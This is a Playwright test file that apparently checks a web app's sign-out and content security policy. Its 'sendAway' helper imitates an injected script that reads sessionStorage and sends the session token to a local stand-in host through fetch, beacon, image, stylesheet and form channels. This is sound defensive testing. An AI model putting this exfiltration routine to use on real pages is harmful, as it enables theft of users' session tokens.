import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test, URL_OF_PRODUCT } from '../support/people.ts';

/** Another host, which the browser can reach: it notes whatever it is sent. */
async function foreignHost() {
  const received: string[] = [];
  const server = createServer((request, answer) => {
    received.push(new URL(request.url!, 'http://foreign').pathname.slice(1));
    answer.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

const WAYS = ['beacon', 'fetch', 'form', 'image', 'stylesheet'];

/** Does what a script that got onto the page would do: sends what the tab has stored away, in every way there is. */
async function sendAway(page: Page, foreign: string): Promise<void> {
  await page.evaluate(async (host) => {
    let token = 'nothing is stored here';
    try {
      token = JSON.stringify(sessionStorage);
    } catch {
      // A page without an address has no storage.
    }
    const done = (element: HTMLElement) =>
      new Promise((resolve) => {
        for (const event of ['load', 'error']) element.addEventListener(event, resolve);
      });
    await fetch(`${host}/fetch`, { method: 'POST', body: token, mode: 'no-cors' }).catch(() => {});
    navigator.sendBeacon(`${host}/beacon`, token);
    const image = new Image();
    image.src = `${host}/image?${encodeURIComponent(token)}`;
    await done(image);
    const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${host}/stylesheet` });
    document.head.append(sheet);
    await done(sheet);
    const frame = Object.assign(document.createElement('iframe'), { name: 'away' });
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: `${host}/form`, target: frame.name });
    document.body.append(frame, form);
    form.submit();
  }, foreign);
}

test('AUT-026, AUT-031: Back after signing out shows nothing; a script can send the token nowhere, and elsewhere it is worth nothing', async ({
  as,
  stranger,
  company,
}) => {
  const foreign = await foreignHost();
  try {
    const page = await as(company);
    await page.goto('/account');
    await expect(page.getByLabel('Email, your sign-in name')).toHaveValue(company.email);
    await sendAway(page, `${foreign.url}/ours`);
    // From a page without our policy everything arrives, so all of it would have.
    const open = await stranger();
    await sendAway(open, `${foreign.url}/open`);
    await expect.poll(() => foreign.received.toSorted()).toEqual(WAYS.map((way) => `open/${way}`));

    expect(await page.evaluate(() => document.cookie)).toBe('');
    const token = await page.evaluate(
      () => (JSON.parse(sessionStorage.getItem('sealdesk.token')!) as { value: string }).value,
    );
    const authorization = `Bearer ${token}`;
    const within = (path: string) =>
      page.evaluate(
        async ([address, bearer]) => (await fetch(address!, { headers: { authorization: bearer! } })).status,
        [path, authorization],
      );
    expect(await within('/api/user')).toBe(200);
    const elsewhere = await fetch(`${URL_OF_PRODUCT()}/api/user`, { headers: { authorization } });
    expect(elsewhere.status).toBe(401);

    await page.getByRole('button', { name: /^Account of/ }).click();
    await expect(page.getByText(/^Version \d+\.\d+\.\d+/)).toBeVisible();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
    await page.goBack();
    await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
    await expect(page.getByText(company.email)).toHaveCount(0);
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
  } finally {
    foreign.close();
  }
});
